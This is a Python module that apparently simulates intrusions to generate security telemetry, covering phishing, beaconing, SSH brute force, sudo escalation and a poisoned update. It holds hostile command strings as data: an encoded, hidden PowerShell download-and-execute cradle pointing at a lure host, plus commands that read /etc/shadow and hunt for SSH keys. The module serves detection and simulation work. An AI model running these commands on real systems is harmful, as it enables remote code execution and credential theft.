"""Owns how intruders come in and stay in touch: phishing, guessed passwords, poisoned updates, beacons."""

from __future__ import annotations

import base64
from collections.abc import Iterator

from pandora_core.model import SECOND_US
from pandora_core.scenario.attacks.cast import Cast
from pandora_core.scenario.attacks.chain import Intruder, Move, Scene
from pandora_core.scenario.behaviour.office import PROGRAMS
from pandora_core.scenario.company import Host, Role
from pandora_core.scenario.deeds.access import enter, shell
from pandora_core.scenario.deeds.endpoint import EXPLORER, POWERSHELL, install_service, start, usual_pid
from pandora_core.scenario.deeds.traffic import fetch_http, fetch_tls, look_up, noticed, open_ports, probe
from pandora_core.scenario.happenings import FileCreated, Happening, ScriptRun, Sudo
from pandora_core.scenario.names import BOT_LOGINS
from pandora_core.scenario.signatures import Signature

WEAK_LOGIN = "deploy"
"""The account on the DMZ host whose password can be guessed."""
_AGENT = "C:\\Program Files\\Deploy\\deploy-agent.exe"
_INTERVALS_S = (45.0, 60.0, 120.0, 300.0, 600.0)
_BASE32 = "abcdefghijklmnopqrstuvwxyz234567"


def implant(cast: Cast) -> str:
    """Where the intruder's program lies on the victim's disk."""
    word = cast.command.name.partition("-")[0]
    return f"C:\\Users\\{cast.victim.login}\\AppData\\Roaming\\{word}\\{word}host.exe"


def open_lure(hand: Intruder, at_us: int) -> Iterator[Scene]:
    """The victim follows a link in a mail, saves a document and opens it."""
    me, lure = hand.at_victim(), hand.cast.lure
    yield at_us, noticed(fetch_tls(me, at_us, lure, received=41_000), Signature.NEW_DOMAIN)
    at_us += hand.pause_us(20, 90)
    document = f"C:\\Users\\{me.user}\\Downloads\\invoice-{hand.dice.whole(1_000, 9_999)}.docm"
    name = document.rpartition("\\")[2]
    got = fetch_http(
        me, at_us, lure.name, lure.ip, f"/share/{name}", received=hand.dice.size(180_000, 0.2),
        mime="application/vnd.ms-word.document.macroEnabled.12",
    )  # fmt: skip
    opened_us = at_us + hand.pause_us(8, 40)
    saved = FileCreated(at_us + 900_000, me.host, EXPLORER, usual_pid(me.host, EXPLORER), document)
    reader = PROGRAMS["docx"]
    opened = start(me, opened_us + SECOND_US, reader, f'/n "{document}"', pid=usual_pid(me.host, reader))
    yield at_us, [*got, saved, opened]


def run_loader(hand: Intruder, at_us: int) -> Iterator[Scene]:
    """The document starts PowerShell with an encoded command, which fetches and starts the intruder's program."""
    me, cast = hand.at_victim(), hand.cast
    path = f"/{hand.dice.hex(6)}"
    source = f"IEX (New-Object Net.WebClient).DownloadString('http://{cast.lure.name}{path}')"
    encoded = base64.b64encode(source.encode("utf-16-le")).decode()
    shell_process = start(me, at_us, POWERSHELL, f"-nop -w hidden -enc {encoded}", parent=PROGRAMS["docx"])
    script = ScriptRun(at_us + 700_000, me.host, me.user, source)
    fetch_us = at_us + 900_000
    got = fetch_http(
        me, fetch_us, cast.lure.name, cast.lure.ip, path, agent="PowerShell/5.1",
        received=hand.dice.size(350_000, 0.2), mime="application/octet-stream", image=POWERSHELL,
    )  # fmt: skip
    saved = FileCreated(fetch_us + 900_000, me.host, POWERSHELL, shell_process.pid, implant(cast))
    pid = usual_pid(me.host, implant(cast))
    ran = start(me, fetch_us + 2 * SECOND_US, implant(cast), pid=pid, parent=POWERSHELL, parent_pid=shell_process.pid)
    yield at_us, [shell_process, script, *got, saved, ran]


def beacon(hand: Intruder, at_us: int) -> Iterator[Scene]:
    """The intruder's program asks for orders by TLS, over and over; some answers are longer than others."""
    yield from _beacon_from(hand, at_us, hand.cast.victim.desk, hand.cast.victim.login, implant(hand.cast))


def beacon_from_server(hand: Intruder, at_us: int) -> Iterator[Scene]:
    """The same from the deployment host, where a poisoned update put the program."""
    host = hand.cast.deploy
    yield from _beacon_from(hand, at_us, host, host.account, _AGENT)


def beacon_by_dns(hand: Intruder, at_us: int) -> Iterator[Scene]:
    """Orders and small answers in the labels of DNS queries, under a domain of the intruder's."""
    me, command = hand.at_victim(), hand.cast.command
    every_s = hand.dice.pick((20.0, 45.0, 90.0))
    while at_us < hand.until_us:
        for _ in range(hand.many(12) if hand.dice.chance(0.03) else 1):
            label = "".join(hand.dice.pick(_BASE32) for _ in range(hand.dice.whole(28, 58)))
            answer = "".join(hand.dice.pick(_BASE32) for _ in range(hand.dice.whole(8, 60)))
            asked = look_up(me, at_us, f"{label}.{command.name}", answer, implant(hand.cast), "TXT")
            me.names.clear()
            yield at_us, noticed(asked, Signature.ENCODED_DNS) if hand.dice.chance(0.01) else asked
            at_us += hand.dice.whole(60_000, 400_000)
        at_us += hand.dice.near_us(every_s * max(1.0, hand.tempo), 0.2)


def look_at_dmz(hand: Intruder, at_us: int) -> Iterator[Scene]:
    """From the internet: which ports do the DMZ hosts answer on?"""
    stranger = hand.world.stranger(hand.cast.outside_ip, hand.dice)
    ports = [*hand.dice.sample(range(1, 10000), hand.many(120, 4000)), 22, 80, 443]
    hand.dice.shuffle(ports)
    for port in ports:
        for host in hand.world.company.all(Role.WEB, Role.TRANSFER):
            is_open = port in open_ports(host)
            yield at_us, [probe(stranger, at_us, host.ip, port, is_open=is_open, is_filtered=not is_open)]
            at_us += hand.pause_us(0.02, 0.5)


def guess_passwords(hand: Intruder, at_us: int) -> Iterator[Scene]:
    """Log-in after log-in over ssh from one address, common names first, then one name again and again."""
    stranger, entry = hand.world.stranger(hand.cast.outside_ip, hand.dice), hand.cast.entry
    for number in range(hand.many(260, 20_000)):
        login = hand.dice.popular(BOT_LOGINS) if number < 40 else WEAK_LOGIN
        is_known = login in ("root", WEAK_LOGIN)
        visit = shell(
            stranger, at_us, entry, login, method="password", is_success=False, is_known_user=is_known,
            tries=hand.dice.whole(1, 3), client="SSH-2.0-libssh2_1.10.0",
        )  # fmt: skip
        is_noticed = number in (30, 150)
        yield at_us, noticed(visit.happenings, Signature.SSH_KNOCKING) if is_noticed else visit.happenings
        at_us += hand.pause_us(1.5, 9)


def log_in_with_guess(hand: Intruder, at_us: int) -> Iterator[Scene]:
    """The guess that worked, and a look at what the account may do."""
    stranger, entry = hand.world.stranger(hand.cast.outside_ip, hand.dice), hand.cast.entry
    visit = shell(
        stranger, at_us, entry, WEAK_LOGIN, method="password", lasts_us=hand.pause_us(3_000, 9_000), bulk=400_000,
        client="SSH-2.0-OpenSSH_9.6",
    )  # fmt: skip
    yield at_us, visit.happenings


def guess_moves(cast: Cast) -> tuple[Move, ...]:
    """The log-on of :func:`log_in_with_guess`."""
    return (Move(cast.outside_ip, cast.entry.name, WEAK_LOGIN),)


def become_root(hand: Intruder, at_us: int) -> Iterator[Scene]:
    """The guessed account may use sudo."""
    for command in ("/usr/bin/id", "/bin/bash", "/usr/bin/cat /etc/shadow", "/usr/bin/find / -name id_ed25519"):
        yield at_us, [Sudo(at_us, hand.cast.entry, WEAK_LOGIN, command, is_success=True)]
        at_us += hand.pause_us(10, 120)


def fetch_tools(hand: Intruder, at_us: int) -> Iterator[Scene]:
    """The taken host fetches programs from the intruder's server by plain http."""
    me = hand.at(hand.cast.entry, WEAK_LOGIN)
    for name in ("ss.tgz", "px"):
        got = fetch_http(
            me, at_us, hand.cast.outside_ip, hand.cast.outside_ip, f"/{name}", agent="curl/7.88.1", port=8000,
            received=hand.dice.size(1_500_000, 0.4), mime="application/gzip",
        )  # fmt: skip
        yield at_us, got
        at_us += hand.pause_us(30, 200)


def take_poisoned_update(hand: Intruder, at_us: int) -> Iterator[Scene]:
    """The deployment host fetches a new version from the maker, whose server has been taken over."""
    host = hand.cast.deploy
    me = hand.at(host, host.account)
    updates = hand.world.internet.updates
    yield at_us, fetch_tls(me, at_us, updates, received=38_000_000, application="updates")
    at_us += hand.pause_us(40, 200)
    setup = start(me, at_us, "C:\\Program Files\\Deploy\\setup-5.1.exe", "/quiet", parent=EXPLORER, integrity="High")
    agent = start(
        me, at_us + 9 * SECOND_US, _AGENT, pid=usual_pid(host, _AGENT), parent=setup.image, parent_pid=setup.pid
    )
    yield at_us, [setup, agent]


def push_poisoned_agent(hand: Intruder, at_us: int) -> Iterator[Scene]:
    """The deployment host, as it should, puts the new agent on workstations: the victim's among them."""
    me = hand.at(hand.cast.deploy, "svc-deploy")
    desks = hand.world.company.by_role[Role.DESK]
    others = hand.dice.sample(desks, min(len(desks), hand.many(5)))
    for desk in dict.fromkeys([hand.cast.victim.desk, *others]):
        visit = enter(me, at_us, desk, sent=4_000_000, is_privileged=True)
        path = "C:\\Windows\\Temp\\inventory-agent-5.1.exe"
        yield at_us, [*visit.happenings, *install_service(me, visit, desk, "InventoryAgent", path)]
        at_us += hand.pause_us(10, 90)


def _beacon_from(hand: Intruder, at_us: int, host: Host, user: str, image: str) -> Iterator[Scene]:
    me, command = hand.at(host, user), hand.cast.command
    every_s = hand.dice.pick(_INTERVALS_S) * max(1.0, hand.tempo) / max(1.0, hand.noise)
    jitter = hand.dice.pick((0.02, 0.05, 0.1, 0.25, 0.4))
    is_first = True
    while at_us < hand.until_us:
        received = hand.dice.size(60_000, 0.8) if hand.dice.chance(0.04) else hand.dice.size(430, 0.05)
        asked: list[Happening] = fetch_tls(
            me, at_us, command, sent=hand.dice.size(310, 0.05), received=received, application="implant", image=image
        )
        if is_first and command.certificate.is_self_signed:
            asked = noticed(asked, Signature.ODD_CERTIFICATE)
        yield at_us, noticed(asked, Signature.CHECK_IN) if hand.dice.chance(0.01) else asked
        at_us += hand.dice.near_us(every_s, jitter)
        is_first = False
